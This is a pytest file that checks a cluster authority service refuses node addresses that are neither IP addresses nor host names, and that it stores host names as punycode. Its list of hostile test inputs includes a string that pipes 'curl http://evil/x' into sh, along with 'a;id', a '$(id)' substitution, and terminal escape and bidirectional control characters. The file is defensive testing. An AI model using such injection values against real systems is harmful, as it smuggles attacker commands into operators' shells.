"""Where nodes say they are goes to shells and terminals of operators: the authority takes addresses and names only."""

import pytest
from kit.authority import Kit, run

from head_node.authority.errors import RequestRefused

HOSTILE = (
    "10.0.0.7 -s 1 & curl -s http://evil/x | sh #",
    "a;id",
    "fe80::1%$(id)",
    "127.1",
    "-s",
    "a\x1b[2J",
    "a\u202eb",
)


@pytest.mark.parametrize("host", HOSTILE)
def test_an_address_that_is_none_is_refused_wherever_a_node_gives_one(host: str) -> None:
    async def scenario(kit: Kit) -> None:
        stranger = kit.newcomer()
        with pytest.raises(RequestRefused, match="neither an IP address nor a host name"):
            await stranger.client.enrol(await kit.token(), name="head-9", addresses={"nvme": (host, 4420)})
        head = await kit.enrolled("head-1")
        with pytest.raises(RequestRefused, match="neither an IP address nor a host name"):
            await head.client.announce({"peer": ("127.0.0.1", 1), "nvme": (host, 4420)})
        sled = kit.env.new_uuid()
        body = {
            "id": str(sled), "name": "sled", "public_key": kit.env.entropy.bytes(32).hex(), "nqn": "nqn",
            "host": host, "port": 4420, "capacity_blocks": 0,
        }  # fmt: skip
        refused = await kit.operator.post("/v1/sleds", json=body)
        assert refused.status_code == RequestRefused.status
        assert refused.json()["detail"].isprintable()
        nodes = (await kit.operator.get("/v1/nodes")).json()
        assert [known["addresses"] for known in nodes["heads"]] == [{"peer": ["127.0.0.1", 7000]}]
        assert nodes["sleds"] == []

    run(scenario)


def test_a_host_name_is_announced_in_ascii() -> None:
    async def scenario(kit: Kit) -> None:
        head = await kit.enrolled("head-1")
        record = await head.client.announce({"peer": ("bücher.example", 1)})
        assert record.addresses == {"peer": ("xn--bcher-kva.example", 1)}

    run(scenario)
